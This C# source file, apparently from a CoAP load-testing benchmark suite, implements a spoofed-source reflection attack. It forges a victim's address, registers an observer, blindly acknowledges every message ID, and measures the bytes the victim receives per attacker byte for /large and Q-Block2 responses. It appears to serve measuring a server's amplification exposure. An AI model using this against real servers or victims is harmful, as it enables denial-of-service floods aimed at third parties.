using CoAP.Tool.LoadEngine;

namespace CoAP.Benchmarks.Load;

/// <summary>Registers an observer at a victim's address, acknowledges every message ID blindly, and asks for bodies that the victim receives.</summary>
internal static class Reflector
{
    private const int MessageIds = 1 << 16, AckRate = 45_000, AckBatch = 64;
    private const double RequestRate = 100;
    private const byte EmptyAcknowledgement = 0x60;
    private const uint Victim = 0;
    private const long LastAnswers = 200 * Clock.Millisecond;

    private static readonly TimeSpan UntilNotified = TimeSpan.FromSeconds(1.1);

    public static Sent Run(Target target, TimeSpan time)
    {
        using var source = new ForgedSource(target.PortOf("udp"), reads: true);
        source.Send(AttackRequests.Registration.ToDatagram(), 0, Victim);
        var untilNotified = time / 4 < UntilNotified ? time / 4 : UntilNotified;
        Clock.SleepUntil(Clock.Now + Clock.ToNanoseconds(untilNotified));
        Attack.AtRate((double)AckRate / AckBatch, TimeSpan.FromSeconds((double)MessageIds / AckRate), batch =>
        {
            for (var at = 0; at < AckBatch; at++) { source.Send([EmptyAcknowledgement, 0, 0, 0], (batch * AckBatch) + at, Victim); }
        });
        source.Drain();
        var large = FactorOf(source, AttackRequests.Large, time / 4);
        var robust = FactorOf(source, AttackRequests.LargeRobust, time / 4);
        FormattableString remark = $"the victim gets {large:0.0} bytes for each byte of /large, {robust:0.0} with Q-Block2";
        return new(MessageIds, remark.ToString(CultureInfo.InvariantCulture));
    }

    // The bytes that the victim receives for each byte that the attacker sends.
    private static double FactorOf(ForgedSource source, CoapMessage request, TimeSpan time)
    {
        var (datagram, received) = (request.ToDatagram(), 0L);
        var count = Attack.AtRate(RequestRate, time, number =>
        {
            source.Send(datagram, number + 1, Victim);
            received += source.Drain();
        });
        Clock.SleepUntil(Clock.Now + LastAnswers);
        received += source.Drain();
        return received / (double)Math.Max(1, count * datagram.Length);
    }
}
